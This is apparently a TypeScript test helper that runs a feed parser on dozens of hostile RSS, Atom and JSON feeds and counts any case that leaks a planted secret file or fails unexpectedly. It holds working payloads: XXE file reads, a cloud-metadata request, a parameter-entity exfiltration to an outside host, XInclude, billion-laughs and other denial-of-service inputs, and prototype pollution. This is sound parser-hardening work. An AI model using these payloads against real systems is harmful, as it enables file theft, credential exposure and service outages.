import { rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FeedError } from '../../../plugins/readers/server/feeds/feed-error';
import { parseFeed } from '../../../plugins/readers/server/feeds/parse-feed';

const secret = 'a-secret-of-this-machine';
const item = (text: string) =>
  `<rss><channel><title>t</title><item><title>${text}</title><link>https://a.cn/1</link></item></channel></rss>`;

/** Feeds designed to crash, hang or exploit a parser, by attack. At size 1 the largest has 100 MB. */
function documents(file: string, size: number): Readonly<Record<string, () => string>> {
  const entity = (declaration: string) => `<?xml version="1.0"?><!DOCTYPE rss [${declaration}]>${item('&xxe;')}`;
  const many = (text: string, times: number) => text.repeat(Math.ceil(times * size));
  const numbered = (make: (n: number) => string, times: number) =>
    Array.from({ length: Math.ceil(times * size) }, (_, n) => make(n)).join('');
  const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
  return {
    'external entity, file': () => entity(`<!ENTITY xxe SYSTEM "file://${file}">`),
    'external entity, address': () => entity('<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">'),
    'external entity, parameter': () =>
      entity(`<!ENTITY % a SYSTEM "file://${file}"><!ENTITY % b "<!ENTITY xxe SYSTEM 'http://a.cn/?%a;'>">%b;`),
    'external document type': () => `<!DOCTYPE rss SYSTEM "file://${file}">${item('&xxe;')}`,
    inclusion: () =>
      item(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://${file}"/>`),
    'style sheet': () => `<?xml-stylesheet href="file://${file}"?>${item('x')}`,
    'billion laughs': () => `<!DOCTYPE rss [<!ENTITY l0 "lol">${laughs}]>${item('&l12;')}`,
    'quadratic blow-up': () => `<!DOCTYPE rss [<!ENTITY a "${many('a', 100_000)}">]>${item(many('&a;', 100_000))}`,
    'depth, 100 MB': () => `<rss>${many('<a>', 33_000_000)}`,
    'depth within bounds': () => `<rss><channel>${many('<item>', 4_000_000)}`,
    'entries without end': () => `<rss><channel>${many('<item>', 400_000)}`,
    'entries of Atom': () => `<feed xmlns="http://www.w3.org/2005/Atom">${many('<entry/>', 400_000)}`,
    'names without number': () => `<rss><channel>${numbered((n) => `<a${n}/>`, 400_000)}`,
    'names with wrong ends': () => `<rss><channel><item>${numbered((n) => `<a${n}></b>`, 400_000)}`,
    'ends that come late': () =>
      `<rss><channel><item>${numbered((n) => `<a${n}></b>`, 200_000)}${numbered((n) => `</a${n}>`, 200_000)}`,
    'prefixes and prefixes': () =>
      `<rss ${numbered((n) => `xmlns:a${n}="x" `, 100_000)}><channel>${many('<item xmlns:b="x"/>', 100_000)}`,
    'a long base': () =>
      `<rss xml:base="http://a.cn/${many('a/', 500_000)}"><channel>${many('<item><link>x</link></item>', 100_000)}`,
    'names of brackets': () => `<rss><channel>${many(`<item><author>${'('.repeat(400)}@)x</author></item>`, 10_000)}`,
    'authors of a feed': () =>
      `<feed xmlns="http://www.w3.org/2005/Atom">${numbered((n) => `<author><name>a${n}</name></author>`, 60_000)}${many('<entry/>', 60_000)}`,
    enclosures: () => `<rss><channel><item>${numbered((n) => `<enclosure url="http://a.cn/${n}"/>`, 120_000)}`,
    'entries of JSON': () =>
      `{"version":"https://jsonfeed.org/version/1.1","title":"t","items":[${many('{},', 1_500_000)}{}]}`,
    'entries of RSS in JSON': () => `{"rss":{"channel":{"title":"t","item":[${many('{},', 1_500_000)}{}]}}}`,
    'members of RSS in JSON': () =>
      `{"rss":{"channel":{"item":{${numbered((n) => `"a${n}":[],`, 400_000)}"title":"x"}}}}`,
    'one entry of many parts': () => `<rss><channel><item>${many('<category>a</category>', 240_000)}`,
    'media in one another': () => `<rss><channel><item>${many('<media:group><media:content url="a"/>', 130_000)}`,
    'depth of JSON': () => `{"version":"https://jsonfeed.org/version/1.1","items":${many('[', 5_000_000)}`,
    'no end of a tag': () => `<rss ${many('a="b" ', 4_000_000)}`,
    'no end of text': () => `<rss><channel><item><description><![CDATA[${many('x', 30_000_000)}`,
    'no end of entries': () =>
      `<rss><channel>${many('<item><title>x</title><link>https://a.cn/1</link></item>', 300_000)}`,
    attributes: () =>
      `<rss ${Array.from({ length: Math.ceil(300_000 * size) }, (_, n) => `a${n}="x"`).join(' ')}><channel/></rss>`,
    entities: () => item(many('&amp;', 4_000_000)),
    comments: () => `${many('<!--', 5_000_000)}${item('x')}`,
    prototype: () =>
      '{"version":"https://jsonfeed.org/version/1.1","title":"t","__proto__":{"x":1},"items":[{"id":"1","constructor":{"prototype":{"y":1}},"url":"https://a.cn"}]}',
    'null characters': () => item(many('\u0000', 1_000_000)),
  };
}

/** Results of hostile feeds: outcome of each, and the slowest. */
export interface HostileResult {
  readonly cases: number;
  /** Failures by case: an error other than `FeedError`, or a secret in the result. Expected to be empty. */
  readonly faults: readonly string[];
  readonly slowest: string;
  readonly slowestSeconds: number;
}

/** Parses hostile feeds beside a file that none of them may read; a smaller size makes them proportionally shorter. */
export function readHostileFeeds(size = 1): HostileResult {
  const file = join(tmpdir(), `feed-secret-${process.pid}.txt`);
  writeFileSync(file, secret);
  const faults: string[] = [];
  let [slowest, slowestSeconds, cases] = ['', 0, 0];
  for (const [name, make] of Object.entries(documents(file, size))) {
    cases += 1;
    const bytes = Buffer.from(make());
    const start = process.cpuUsage();
    try {
      if (JSON.stringify(parseFeed(bytes)).includes(secret)) faults.push(`${name}: the file was read`);
    } catch (error) {
      if (!(error instanceof FeedError)) faults.push(`${name}: ${String(error).slice(0, 120)}`);
    }
    const { user, system } = process.cpuUsage(start);
    const seconds = (user + system) / 1e6;
    if (seconds > slowestSeconds) [slowest, slowestSeconds] = [name, seconds];
  }
  rmSync(file);
  return { cases, faults, slowest, slowestSeconds };
}
